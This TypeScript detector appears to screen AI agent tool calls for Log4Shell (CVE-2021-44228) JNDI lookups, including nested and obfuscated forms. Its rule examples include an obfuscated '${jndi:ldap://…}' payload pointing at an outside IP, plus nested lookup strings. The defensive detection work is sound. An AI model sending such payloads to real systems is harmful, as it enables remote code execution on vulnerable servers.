import type { Analyser, Rule } from '../rule.ts';
import { isTalk } from './where.ts';

const lookup = {
  id: 'code.jndi-lookup',
  type: 'code_injection',
  severity: 'critical',
  sees: 'a Log4j lookup that loads a class from elsewhere (`${jndi:…}`), however it is nested',
  positive: { tool: 'http_get', arguments: { url: 'https://example.com/?q=${${lower:j}n${::-d}i:ldap://198.51.100.7/a}' } },
  nearMiss: { tool: 'edit_file', arguments: { path: 'conf/app.xml', new_text: '<Property name="home">${env:HOME:-/srv}</Property>' } },
  source: 'CVE-2021-44228; OWASP CRS 944150',
} as const satisfies Rule;

const nested = {
  id: 'code.nested-lookup',
  type: 'code_injection',
  severity: 'high',
  sees: 'a Log4j lookup that spells letters out (`${lower:x}`, `${::-x}`), which nobody needs',
  positive: { tool: 'set_header', arguments: { value: '${${lower:l}${::-d}${upper:a}}' } },
  nearMiss: { tool: 'set_header', arguments: { value: '${name:-guest}' } },
  source: 'CVE-2021-44228',
} as const satisfies Rule;

const MAX_LENGTH = 1_024;
const ROUNDS = 12;
/** An innermost lookup: `${lower:j}`, `${env:X:-j}`, `${::-j}`, `${date:'j'}`. */
const INNERMOST = /\$\{((?:[^{}$]|\$(?!\{)){0,64})\}/g;

export const log4shell: Analyser = {
  name: 'code.log4shell',
  roles: ['shell', 'powershell', 'cmd', 'sql', 'code', 'path', 'url', 'host', 'markup', 'prose', 'address', 'value', 'secret'],
  literals: ['jndi', '${lower', '${upper', '${::', '${env:', '${sys:', '${date:', '${main:', '${ctx:', '${base64:', '${bundle:', ':-j}', ':-n}', ':-d}', ':-i}', '${-', '${k8s:', '${java:', 'jn${', 'j${'],
  rules: [lookup, nested],
  analyse(view) {
    const { text, hits, budget, report } = view;
    let reached = -1;
    for (const hit of hits) {
      if (hit < reached) continue;
      const start = beginning(text, hit);
      const piece = /^[^\n]*/.exec(text.slice(start, start + MAX_LENGTH))?.[0] ?? '';
      budget.spend(3 * piece.length + 64);
      reached = start + piece.length;
      const { resolved, letters } = resolve(piece);
      const end = start + piece.length;
      if (isTalk(view, start, end)) continue;
      if (/(?:\$|%24)\s{0,2}(?:\{|%7b|&lbrace;?|&lcub;?|&#0*123;?|&#x0*7b;?|\\u007b|\\x7b)[^}\n]{0,120}?jndi\s{0,2}(?::|%3a|&colon;|&#0*58;|\\u003a|\$\{)/i.test(resolved)) report(lookup, start, end);
      else if (letters >= 3) report(nested, start, end);
    }
  },
};

/** The dollar sign of the outermost lookup around a hit. */
function beginning(text: string, hit: number): number {
  const floor = Math.max(0, hit - 128);
  const before = text.slice(floor, hit + 1);
  const dollar = before.search(/(?:\$|%24)/);
  return dollar < 0 ? hit : floor + dollar;
}

function resolve(piece: string): { resolved: string; letters: number } {
  let resolved = piece;
  let letters = 0;
  for (let round = 0; round < ROUNDS; round += 1) {
    const next = resolved.replace(INNERMOST, (all, body: string) => {
      const text = valueOf(body);
      if (text === undefined) return all;
      if (text.length <= 2) letters += 1;
      return text;
    });
    if (next === resolved) break;
    resolved = next;
  }
  return { resolved, letters };
}

/** What a lookup becomes, as far as its text alone tells; undefined: it depends on more. */
function valueOf(body: string): string | undefined {
  if (/^\s*jndi\s*:/i.test(body)) return undefined;
  const chosen = body.indexOf(':-');
  if (chosen >= 0) return body.slice(chosen + 2);
  const [, key = '', value = ''] = /^(lower|upper|date|base64)\s*:(.{0,40})$/i.exec(body) ?? [];
  if (key === '') return undefined;
  return value.replace(/['"]/g, '');
}
